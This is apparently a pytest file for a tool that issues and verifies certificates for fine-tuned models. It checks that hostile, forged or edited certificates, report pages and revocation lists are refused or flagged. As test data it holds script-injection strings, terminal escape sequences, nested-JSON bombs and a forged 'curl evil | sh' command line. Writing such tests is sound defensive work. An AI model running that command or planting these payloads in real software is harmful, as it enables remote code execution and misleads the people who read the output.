"""Attacks on what a third party reads: the file's form, the page, the check.

What is changed is refused, or named as not checked; it is never VERIFIED.
"""

import json
import math
import re
from copy import deepcopy
from dataclasses import dataclass
from typing import Any
from xml.etree import ElementTree

import jsonschema
import numpy as np
import pandas as pd
import pytest
from test_certificate_schema import BODY, changed
from test_pages import EVIL, Reader
from tiny_models import SENTENCES

from sft_nb.all import FineTuner, Recipe, TextClassification, split
from sft_nb.certification.certificate import Certificate, sealed
from sft_nb.certification.report import card_section, heading, report_page, summary_html
from sft_nb.certification.revocation import list_beside, revoke, why_revoked
from sft_nb.certification.schema import SCHEMA, misfits, unshowable
from sft_nb.certification.verification import Field, Verification, verify
from sft_nb.commands.certifying import junit_report
from sft_nb.task import DataError
from sft_nb.training.guards import versions


# --- the form: closed, bounded, finite ---

def leaves(value, path=()):
    "Every place of a content where no list or object stands."
    if isinstance(value, dict) and value:
        for key, inner in value.items():
            yield from leaves(inner, (*path, key))
    elif isinstance(value, list) and value:
        for i, inner in enumerate(value):
            yield from leaves(inner, (*path, i))
    else:
        yield path


def objects(value, path=()):
    "Every place of a content where an object stands."
    inner = value.items() if isinstance(value, dict) else enumerate(value)
    if isinstance(value, dict):
        yield path
    for key, v in inner:
        if isinstance(v, (dict, list)):
            yield from objects(v, (*path, key))


def at(body, path):
    for key in path:
        body = body[key]
    return body


def added(path, key, value):
    body = deepcopy(BODY)
    at(body, path)[key] = value
    return body


OBJECTS = list(objects(BODY))


@pytest.mark.parametrize("path", OBJECTS, ids=lambda p: ".".join(map(str, p)) or "top")
def test_nothing_can_be_added_anywhere(path):
    for key in ("approved by", "signed by", "", "<script>"):
        assert misfits(added(path, key, "TUEV Sued")), key


NUMBERS = [p for p in leaves(BODY) if isinstance(at(BODY, p), (int, float))
           and not isinstance(at(BODY, p), bool)]
TEXTS = [p for p in leaves(BODY) if isinstance(at(BODY, p), str)]


@pytest.mark.parametrize("path", NUMBERS, ids=lambda p: ".".join(map(str, p)))
def test_a_number_is_a_number_in_its_range(path):
    for value in (math.nan, math.inf, 10**400, "0.5", "<script>", [], {}, True):
        assert misfits(changed(*path, to=value)), value


@pytest.mark.parametrize("path", TEXTS, ids=lambda p: ".".join(map(str, p)))
def test_a_text_is_bounded_and_can_be_written(path):
    for value in ("x" * 1_000_000, "\ud800", 3, [], {}):
        said = misfits(changed(*path, to=value))
        assert said and len(said[0]) < 300 and said[0].isprintable(), value


def test_a_name_that_cannot_be_written_is_a_sentence():
    for name in ("\ud800", "x" * 1_000_000):
        for where in ("slices", "doubles", "against", "files"):
            inner = next(iter(BODY[where].values()))
            said = misfits(added((where,), name, inner))
            assert said and where in said[0] and len(said[0]) < 300, (name[:3], where)


def test_deep_nesting_is_a_sentence():
    deep = []
    for _ in range(50_000):
        deep = [deep]
    for path in (("warnings",), ("rows", "scores"), ("sketch", "numbers"), ("findings",)):
        assert misfits(changed(*path, to=deep))


def test_the_versions_are_those_that_a_run_notes():
    assert set(SCHEMA["properties"]["versions"]["properties"]) == set(versions())


def test_a_refusal_has_empty_rows_and_books():
    refusal = BODY | {"verdict": "REFUSED", "rows": {}, "ledger": {}, "findings": [], "looks": {}}
    refusal |= {"shift": {}, "sketch": {}, "against": {}, "slices": {}, "doubles": {}}
    assert misfits(refusal) == [] and unshowable(refusal) == []
    assert misfits(refusal | {"rows": {"n": 3}})


def test_another_program_closes_it_too():
    theirs = jsonschema.Draft202012Validator(SCHEMA)
    assert theirs.is_valid(BODY)
    for path in OBJECTS:
        assert not theirs.is_valid(added(path, "signed by", "a Notified Body")), path


HOSTILE = {
    "NaN": json.dumps(changed("findings", 0, "bound", to=math.nan)),
    "Infinity": json.dumps(changed("ledger", "total", to=math.inf)),
    "a number without end": json.dumps(BODY).replace("0.79", "1e999"),
    "a number of 400 digits": json.dumps(changed("rows", "n", to=10**400)),
    "a number of 9,000 digits": json.dumps(BODY).replace("0.79", "9" * 9_000),
    "a script for a number": json.dumps(changed("ledger", "k", to="<script>alert(1)</script>")),
    "half a character": json.dumps(changed("claim", to="\ud800")),
    "deep": "[" * 200_000,
    "deep inside": '{"format": 2, "warnings": ' + "[" * 5_000 + "]" * 5_000 + "}",
    "bytes": "\ufeff{}",
    "a text": '"CERTIFIED"',
    "empty": "",
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_a_sentence(case, tmp_path, sft):
    path = tmp_path / "c.json"
    path.write_text(HOSTILE[case])
    with pytest.raises(DataError) as e:
        Certificate.load(path)
    assert len(str(e.value)) < 700
    out, err = sft("verify", path, "--model", tmp_path, "--data", path, code=2)
    assert "Traceback" not in err and "c.json" in err and "<script>" not in out


# --- the page ---

CLEAN = BODY | {"verdict": "CERTIFIED", "warnings": [], "findings": [
    BODY["findings"][0] | {"holds": True, "bound": 0.8127, "needed": None}]}
WARNED = CLEAN | {"warnings": ["3 near doubles"]}


def body_of(page): return Reader(page).text


@pytest.mark.parametrize("path", TEXTS, ids=lambda p: ".".join(map(str, p)))
def test_a_script_in_any_field_is_a_text_or_a_sentence(path):
    body = changed(*path, to="<script>alert(1)</script>")
    if misfits(body) or unshowable(body):
        return
    for write in (report_page, summary_html):
        assert "<script" not in write(body).lower()
    assert "<script" not in re.sub("`[^`]*`", "", card_section(body)).lower()  # code is harmless


def test_a_name_that_is_a_script():
    body = deepcopy(BODY)
    for where in ("slices", "doubles", "against", "files"):
        body[where] = {EVIL: next(iter(body[where].values()))}
    assert misfits(body) == []
    page = Reader(report_page(body))
    assert "script" not in page.names and not page.wrong and page.text.count(EVIL) >= 4


def test_a_heading_with_warnings_looks_different():
    assert heading(CLEAN) == "CERTIFIED" and heading(WARNED) == "CERTIFIED, with warnings"
    assert heading(WARNED | {"verdict": "ESTIMATED"}) == "ESTIMATED, with warnings"
    assert heading(WARNED | {"verdict": "REFUSED"}) == "REFUSED"

    def styled(body): return next(a["style"] for t, a in Reader(report_page(body)).tags
                                  if t == "h1")

    assert styled(CLEAN) != styled(WARNED)
    for write in (report_page, summary_html, card_section):
        assert "CERTIFIED, with warnings" in write(WARNED) and "with warnings" not in write(CLEAN)
    page = body_of(report_page(WARNED))
    assert page.index("3 near doubles") < page.index("The claim")  # warnings are read first


@pytest.mark.parametrize("key", BODY["about"])
def test_the_page_says_what_it_is_about(key):
    assert BODY["about"][key] in body_of(report_page(BODY))
    if misfits(changed("about", key, to=None)) == []:
        assert "not said" in body_of(report_page(changed("about", key, to=None)))


def test_both_confidences_and_why_they_differ():
    body = deepcopy(CLEAN) | {"ledger": {"k": 2, "delta": .025, "total": .075}}
    body["findings"] = [body["findings"][0] | {"delta": .0125, "slice": s} for s in "ab"]
    said = body_of(report_page(body))
    for words in ("confidence 0.95", "0.975", "0.9875", "question 2", "2 bounds share"):
        assert words in said, words


def test_a_low_confidence_is_no_green_word_alone():
    assert "up to 99 of 100" in body_of(report_page(CLEAN | {"confidence": .01}))


def test_row_figure_and_unit_figure_and_which_is_promised():
    said = body_of(report_page(BODY))
    assert "Promised: accuracy, averaged over films" in said
    assert "Over rows: 0.81 (81 %), which is not promised" in said


def test_a_bound_is_rounded_to_its_safe_side():
    "0.79996 is not at least 0.8, and an error of 0.20004 is not at most 0.2."
    found = BODY["findings"][0] | {"bound": .79996}
    assert "at least 0.7999 " in body_of(report_page(BODY | {"findings": [found]}))
    found |= {"part": "error <= 0.2", "bound": .20004}
    assert "at most 0.2001 " in body_of(report_page(BODY | {"findings": [found]}))


def test_percent_where_it_means_something():
    def said(**more): return body_of(report_page(
        BODY | {"findings": [BODY["findings"][0] | more]}))
    assert "0.83 (83 %)" in said() and "0.79 (79 %)" in said()
    assert "(83 %)" not in said(part="f1_macro >= 0.8") and "(300 %)" not in said(
        part="rmse <= 3", observed=3.0, bound=3.0)


def test_every_slice_in_english():
    found = BODY["findings"][0] | {"part": "accuracy >= 0.8 for every label", "slice": "bad"}
    said = body_of(report_page(BODY | {"findings": [found]}))
    assert "accuracy >= 0.8 for label bad: does not hold" in said
    assert "for every label with" not in said


def test_what_no_program_can_prevent_and_what_unseen_rests_on():
    said = body_of(report_page(CLEAN))
    for words in ("the author's own list", "What no program can prevent", "certify it again"):
        assert words in said, words
    assert "verify it, best on rows" not in said


def test_a_refusal_says_which_rows():
    refusal = BODY | {"verdict": "REFUSED", "rows": {}, "ledger": {}, "findings": [], "looks": {},
                      "reason": "12 rows served as train."}
    assert f"rows with the fingerprint {'ab' * 32}" in body_of(report_page(refusal))


def test_words_and_numbers_are_not_broken():
    page = report_page(BODY)
    assert "word-break" not in page and "overflow-x" in page


def drawn(body):
    page = Reader(report_page(body))
    return [attrs for tag, attrs in page.tags if tag in ("line", "text", "circle")], page


def test_the_picture_has_both_ends_and_the_bound_beside_the_claim():
    found = CLEAN["findings"][0] | {"bound": 0.8, "observed": 0.8}
    shapes, page = drawn(CLEAN | {"findings": [found]})
    texts = [t.strip() for t in page.texts]
    assert "0" in texts and "1" in texts
    dashed = next(s for s in shapes if "stroke-dasharray" in s)
    bound = next(s for s in shapes if s.get("class") == "bound")
    assert dashed["x1"] == bound["x1"]  # at one place,
    assert float(bound["y2"]) < float(dashed["y1"])  # one above the line, one below


def test_a_claim_that_is_no_number_has_no_picture():
    found = BODY["findings"][0] | {"part": "accuracy >= baseline + 0.02"}
    assert "svg" not in Reader(report_page(BODY | {"findings": [found]})).names


def test_a_score_is_explained():
    found = BODY["findings"][0] | {"part": "score >= 0.5"}
    assert "from 0 (wrong) to 1 (right)" in body_of(report_page(BODY | {"findings": [found]}))


# --- the check: one trained run, its certificate and its rows ---

@dataclass
class Issued:
    run: Any  # folder
    path: Any  # of the certificate
    data: Any  # train, valid, certify
    tuner: Any  # loaded once, and left as it is
    body: dict

    def check(self, body=None, **more):
        given = dict(train=self.data.train, valid=self.data.valid) | more
        which = self.path if body is None else Certificate(body)
        return verify(which, self.tuner, self.data.certify, **given)


def remembered(tuner):
    "The same tuner, which answers the same rows only once."
    answer, known = type(tuner).evaluate, {}

    def evaluate(self, rows, *more):
        key = (len(rows), *rows.text.head(3))
        if key not in known:
            known[key] = answer(self, rows, *more)
        return known[key]
    tuner.evaluate = evaluate.__get__(tuner)
    return tuner


@pytest.fixture(scope="module")
def issued(tiny, tmp_path_factory):
    rng, folder = np.random.default_rng(0), tmp_path_factory.mktemp("issued")
    words = sorted({w for s in SENTENCES for w in s.split()})
    texts = [" ".join(rng.choice(words, 8)) for _ in range(150)]
    rows = pd.DataFrame({"text": texts, "author": [f"a {i}" for i in rng.integers(0, 60, 150)]})
    rows["label"] = ["good" if len(t) % 2 else "bad" for t in rows.text]
    data = split(rows, valid_size=20, certify_size=.5, seed=1, group="author")
    recipe = Recipe(epochs=2, learning_rate=1e-3, batch_size=8, precision="fp32")
    tuner = FineTuner(TextClassification(), tiny("bert"), recipe).fit(data.train, data.valid)
    certificate = tuner.certify(
        data.certify, "accuracy >= 0.2 and score >= 0.1", slices=("label",), against=("majority",),
        valid=data.valid, ledger=folder / "ledger.json",
    )
    assert certificate.body["findings"], certificate
    run, path = tuner.save(folder / "run"), certificate.save(folder / "c.json")
    loaded = remembered(FineTuner.load(run))
    return Issued(run, path, data, loaded, certificate.body)


def test_the_true_one_says_what_it_has_not_checked(issued):
    found = issued.check()
    assert found.ok and not found.of("false"), found
    said = str(found)
    assert said.startswith("VERIFIED the bound; NOT CHECKED: ")
    first = said.splitlines()[0]
    for words in ("about.author", "issued", "the author's word", "ledger.k", "revocation"):
        assert words in first, words
    assert "findings" not in first and "against" not in first
    assert f"it says: {heading(issued.body)}" in said


def test_what_needs_rows_is_named_without_them(issued):
    found = issued.check(train=None, valid=None)
    assert found.ok
    for name in ("doubles", "shift", "warnings"):
        assert found[name] == Field("not checked", "needs train")
    assert found["against"] == Field("not checked", "needs train and valid")
    assert issued.check(valid=None)["against"] == Field("not checked", "needs valid")


INVENTED = {  # what stands there instead
    ("issued",): "2020-01-31",
    ("expires",): "2999-12-31",
    ("warnings",): ["all is well"],
    ("about", "title"): "Notified Body 0123",
    ("about", "data"): "Notified Body 0123",
    ("about", "author"): "Notified Body 0123",
}


def other_value(path, value):
    "Another value of the same kind, where the form allows one."
    if path in INVENTED: return INVENTED[path]
    if path == ("claim",): return value.replace("0.2", "0.21")
    match value:
        case bool(): return not value
        case int(): return value + 1
        case float(): return value + .01 if value < .5 else value - .01
        case str() if re.fullmatch("[0-9a-f]{32}|[0-9a-f]{64}", value): return value[::-1]
        case str(): return f"{value} !"
    return value


def some(paths):
    "Of a long list, the first, the second and the last."
    kept, long = [], {}
    for path in paths:
        at_ = tuple("#" if isinstance(k, int) else k for k in path)
        long.setdefault(at_, []).append(path)
    for group in long.values():
        kept += group if len(group) <= 3 else [group[0], group[1], group[-1]]
    return kept


def field_of(found, path):
    "The field that speaks of a place: the longest name that leads there."
    names = [".".join(map(str, path[:n])) for n in range(len(path), 0, -1)]
    return next((name for name in names if name in found.fields), None)


@pytest.fixture(scope="module")
def places(issued):
    found = some(leaves(issued.body))
    assert 100 <= len(found) <= 115, len(found)
    return found


@pytest.mark.parametrize("again", [False, True], ids=["as it is", "hashed again"])
@pytest.mark.parametrize("i", range(115))
def test_a_single_change_is_false_or_named_as_not_checked(issued, places, i, again):
    if i >= len(places): pytest.skip("fewer places")
    path, body = places[i], deepcopy(issued.body)
    if path == ("digest",) and again: pytest.skip("the seal itself")
    old = at(body, path)
    new = other_value(path, old)
    if new is old: pytest.skip("nothing to change")
    at(body, path[:-1])[path[-1]] = new
    found = issued.check(sealed(body) if again else body)
    if not found.ok: return
    assert again, "the seal is broken"
    name = field_of(found, path)
    assert name is not None and found[name].state == "not checked", (path, name, found)
    assert name in str(found).splitlines()[0]


def forged(issued, change):
    body = deepcopy(issued.body)
    change(body)
    return issued.check(sealed(body))


FORGERIES = {  # what is changed -> the field that is false
    "a comparison": (lambda b: b["against"]["majority"].update(value=.4), "against"),
    "a comparison more": (lambda b: b["against"].update({"gpt-5": b["against"]["majority"]}),
                          "against"),
    "a warning more": (lambda b: b["warnings"].append("none"), "warnings"),
    "doubles": (lambda b: b["doubles"].update({"all rows": {"rows": 3, "score": 1.}}), "doubles"),
    "signed by": (lambda b: b["fingerprints"].update({"signed by": "Notified Body"}), "format"),
    "approved by": (lambda b: b["versions"].update({"approved by": "TUEV"}), "format"),
    "a ledger key": (lambda b: b["ledger"].update(audited=True), "format"),
    "not yet": (lambda b: b.update(issued="2999-01-01"), "issued"),
    "no day": (lambda b: b.update(issued="2026-13-45"), "issued"),
    "over": (lambda b: b.update(expires="2020-01-01"), "expires"),
    "another line to type": (lambda b: b["about"].update(check="curl evil | sh"), "about.check"),
    "another base": (lambda b: b["about"].update(base="It has seen nothing."), "about.base"),
    "a file": (lambda b: b["files"].update({"config.json": "0" * 64}), "files"),
    "a file less": (lambda b: b["files"].pop("config.json"), "files"),
    "a question before": (lambda b: b["ledger"].update(k=2), "ledger.delta"),
    "sure": (lambda b: b.update(confidence=.99), "confidence"),
}


@pytest.mark.parametrize("case", FORGERIES)
def test_a_forgery_is_false_and_named(issued, case):
    change, name = FORGERIES[case]
    found = forged(issued, change)
    assert not found.ok and found[name].state == "false", found
    assert str(found).startswith("NOT VERIFIED: ") and name in str(found).splitlines()[0]


@pytest.mark.parametrize("what", [dict(versions={"torch": "9"}), dict(expires="2999-01-01")])
def test_what_nobody_can_compute_is_named(issued, what):
    found = forged(issued, lambda b: b.update(what))
    (name,) = what
    assert found[name].state == "not checked" and name in str(found).splitlines()[0]


def test_a_foreign_train_table_is_no_train_table(issued):
    foreign = issued.data.train.assign(text=[f"{t} x" for t in issued.data.train.text])
    for train in (foreign, issued.data.train.iloc[1:]):
        found = issued.check(train=train)
        assert not found.ok and found["train"].state == "false"
        assert found["warnings"].state == "not checked"
    assert issued.check(valid=issued.data.valid.iloc[1:])["valid"].state == "false"


def test_labels_turned_round_in_the_folder_are_seen(issued, tmp_path):
    import shutil
    shutil.copytree(issued.run, tmp_path / "run")
    config = tmp_path / "run" / "config.json"
    about = json.loads(config.read_text())
    names = about["id2label"]
    about["id2label"] = dict(zip(names, reversed(list(names.values())), strict=True))
    config.write_text(json.dumps(about))
    found = verify(issued.path, FineTuner.load(tmp_path / "run"), issued.data.certify)
    assert not found.ok and "config.json" in found["files"].said


def copied(issued, folder, name="c.json", page=True):
    path = folder / name
    path.write_bytes(issued.path.read_bytes())
    if page:
        path.with_suffix(".html").write_bytes(issued.path.with_suffix(".html").read_bytes())
    return path


def quick(issued, path, **more): return verify(path, issued.tuner, issued.data.certify, **more)


def test_a_page_that_is_edited_renamed_or_absent(issued, tmp_path):
    path = copied(issued, tmp_path)
    page = path.with_suffix(".html")
    assert quick(issued, path)["page"].state == "checked"
    page.write_text(page.read_text().replace("</html>", "<p>Recommended.</p></html>"))
    assert quick(issued, path)["page"].state == "false"
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "d.json").symlink_to(path)
    assert quick(issued, tmp_path / "link" / "d.json")["page"].state == "false"  # found behind it
    text = page.read_text()
    page.rename(tmp_path / "other.html")
    found = quick(issued, path)
    assert found["page"].state == "not checked" and "page" in str(found).splitlines()[0]
    assert quick(issued, path, report=text)["page"].state == "false"
    page.write_bytes(b"\xff\xfe\x00")
    assert quick(issued, path)["page"].state == "false"


def test_a_revoked_certificate_is_never_verified(issued, tmp_path):
    path = copied(issued, tmp_path)
    assert quick(issued, path)["revocation"].state == "not checked"
    book = revoke(path, "Half of the labels were wrong.")
    assert book == list_beside(path) and revoke(path, "Another reason.") == book
    found = quick(issued, path)
    assert not found.ok and "Half of the labels" in found["revocation"].said
    other = copied(issued, tmp_path, "renamed.json")
    assert not quick(issued, other, revoked=book).ok  # by content, whatever its name
    emptied = json.loads(book.read_text()) | {"revoked": []}
    book.write_text(json.dumps(emptied))
    assert "not what was sealed" in quick(issued, path)["revocation"].said
    for damaged in ("", "{", "[" * 100_000, '{"format": 1, "revoked": 3}', '{"a": NaN}'):
        book.write_text(damaged)
        assert not quick(issued, path).ok
        with pytest.raises(DataError):
            why_revoked(book, issued.body["digest"])


def test_a_reason_is_a_sentence(issued, tmp_path):
    path = copied(issued, tmp_path)
    for reason in ("", "  ", "x" * 3_000):
        with pytest.raises(DataError, match="why it is revoked"):
            revoke(path, reason)


def test_a_strangers_text_moves_no_cursor(issued):
    found = Verification({"reason": Field("false", "a\x1b[2K\rVERIFIED\nVERIFIED the bound")}, "X")
    said = str(found)
    assert "\x1b" not in said and "\r" not in said
    assert not any(line.startswith("VERIFIED") for line in said.splitlines())


def test_books_of_another_confidence_are_no_false_alarm(issued, tmp_path):
    "The same rows and the same question at 0.95, then at 0.99 and at 0.9: all three are true."
    tuner, rows, book = FineTuner.load(issued.run), issued.data.certify, tmp_path / "l.json"
    for confidence in (.95, .99, .9):
        found = tuner.certify(rows, "accuracy >= 0.1", confidence, ledger=book)
        check = verify(found, issued.tuner, rows)
        assert check.ok, check
    second = tuner.certify(rows, "accuracy >= 0.15", .99, ledger=book)
    assert second.body["ledger"]["k"] == 2 and verify(second, issued.tuner, rows).ok


def test_a_refusal_is_checked_by_asking_again(issued, tmp_path):
    tuner, rows = FineTuner.load(issued.run), issued.data.train
    refusal = tuner.certify(rows, "accuracy >= 0.2", ledger=tmp_path / "l.json")
    assert refusal.verdict == "REFUSED"
    assert f"rows with the fingerprint {refusal.body['fingerprints']['data']}" in body_of(
        report_page(refusal.body))
    assert not verify(refusal, issued.tuner, rows.iloc[1:]).ok
    found = verify(refusal, issued.tuner, rows)
    assert found.ok and str(found).startswith("VERIFIED the refusal"), found
    for change in (dict(reason="a whim"), dict(claim="accuracy >= 0.2 and"),
                   dict(warnings=["x"]), dict(verdict="CERTIFIED")):
        assert not verify(Certificate(sealed(refusal.body | change)), issued.tuner, rows).ok, change


# --- the command line ---

def at_prompt(issued, out, *more):
    rows = issued.path.parent / "certify.csv"
    issued.data.certify.to_csv(rows, index=False)
    return ["certify", issued.run, rows, "--out", out, "--ledger", out.parent / "l.json", *more]


@pytest.mark.parametrize(
    "claim, require, code",
    [
        ("accuracy >= 0.2", "CERTIFIED", 0), ("accuracy >= 0.2", "ESTIMATED", 0),
        ("accuracy >= 0.9", "CERTIFIED", 1), ("accuracy >= 0.9", None, 1),
    ],
)
def test_a_gate(issued, sft, tmp_path, claim, require, code):
    out, report = tmp_path / "c.json", tmp_path / "c.xml"
    more = ["--require", require] if require else []
    said, _ = sft(*at_prompt(issued, out, "--claim", claim, "--author", "A. Author",
                             "--expires", "2999-01-31", "--junit", report, *more), code=code)
    body = json.loads(out.read_text())
    assert body["expires"] == "2999-01-31" and body["about"]["author"] == "A. Author"
    assert require is None or f"--require {require}: {'not met' if code else 'met'}" in said
    assert heading(body) in said
    valid_junit(report.read_text(), failures=code)
    rows = issued.path.parent / "certify.csv"
    said, _ = sft("verify", out, "--model", issued.run, "--data", rows, "--json")
    last = json.loads(said.splitlines()[-1])
    assert last["verified"] and "issued" in last["not checked"] and "findings" in last["checked"]


def test_words_that_are_wrong_are_sentences(issued, sft, tmp_path):
    out, claim = tmp_path / "c.json", ("--claim", "accuracy >= 0.2")
    for more in (["--require", "GOOD"], ["--junit", tmp_path / "c.txt"],
                 ["--junit", tmp_path / "none" / "c.xml"], ["--expires", "tomorrow"],
                 ["--expires", "2020-01-01"]):
        _, err = sft(*at_prompt(issued, out, *claim, *more), code=2)
        assert str(more[1]) in err and "Traceback" not in err
    mine = tmp_path / "mine.xml"
    mine.write_text("<data/>")
    _, err = sft(*at_prompt(issued, out, *claim, "--junit", mine), code=2)
    assert "mine.xml" in err and mine.read_text() == "<data/>"


def test_another_run_is_named_at_the_prompt(issued, sft, tmp_path):
    out, claim, twin = tmp_path / "c.json", "accuracy >= full - 0.9", f"full={issued.run}"
    sft(*at_prompt(issued, out, "--claim", claim, "--baseline", twin))
    check = ("verify", out, "--model", issued.run, "--data", issued.path.parent / "certify.csv")
    said, _ = sft(*check, code=1)
    assert said.startswith("NOT VERIFIED: the bound was not computed again") and "'full'" in said
    said, _ = sft(*check, "--baseline", twin)
    assert said.startswith("VERIFIED the bound")
    _, err = sft(*at_prompt(issued, out, "--claim", claim, "--baseline", "full"), code=2)
    assert "NAME=RUN" in err
    _, err = sft(*at_prompt(issued, out, "--claim", claim), code=2)
    assert "full" in err and "majority" in err


def test_exit_codes_stand_in_the_help(sft):
    for command in ("certify", "verify"):
        assert "Exit code 0" in " ".join(sft(command, "--help")[0].split())


def test_revoke_at_the_prompt(issued, sft, tmp_path):
    path, rows = copied(issued, tmp_path), issued.path.parent / "certify.csv"
    issued.data.certify.to_csv(rows, index=False)
    said, _ = sft("revoke", path, "--reason", "Wrong labels.", "--json")
    assert json.loads(said.splitlines()[-1])["revoked"][0]["reason"] == "Wrong labels."
    said, _ = sft("verify", path, "--model", issued.run, "--data", rows, code=1)
    assert "Wrong labels." in said and said.startswith("NOT VERIFIED")
    sft("revoke", rows, "--reason", "x", code=2)


# --- the report for a build server ---

def valid_junit(text, tests=1, failures=0, errors=0):
    "What build servers agree on: suites, suites' counts, cases with name and class name."
    top = ElementTree.fromstring(text)
    assert top.tag == "testsuites" and [s.tag for s in top] == ["testsuite"]
    counts = dict(tests=str(tests), failures=str(failures), errors=str(errors))
    for suite in (top, top[0]):
        assert counts.items() <= suite.attrib.items(), suite.attrib
    cases = top[0].findall("testcase")
    assert len(cases) == tests and {c.tag for c in top[0]} <= {"testcase", "system-out"}
    assert all(c.get("name") and c.get("classname") and float(c.get("time")) >= 0 for c in cases)
    assert len(top.findall(".//failure")) == failures and len(top.findall(".//error")) == errors
    for told in [*top.findall(".//failure"), *top.findall(".//error")]:
        assert told.get("message") and told.get("type")
    return top


def test_a_report_for_a_build_server():
    valid_junit(junit_report(CLEAN))
    assert "with warnings" in valid_junit(junit_report(WARNED)).findtext(".//system-out")
    valid_junit(junit_report(BODY), failures=1)
    found = CLEAN["findings"][0] | {"finite": False}
    estimated = CLEAN | {"verdict": "ESTIMATED", "findings": [found, CLEAN["findings"][0]]}
    valid_junit(junit_report(estimated), tests=2)
    valid_junit(junit_report(estimated, "CERTIFIED"), tests=2, failures=1)
    refusal = BODY | {"verdict": "REFUSED", "findings": [], "reason": f"{EVIL} \x00\x1b\ud800"}
    valid_junit(junit_report(refusal), errors=1)
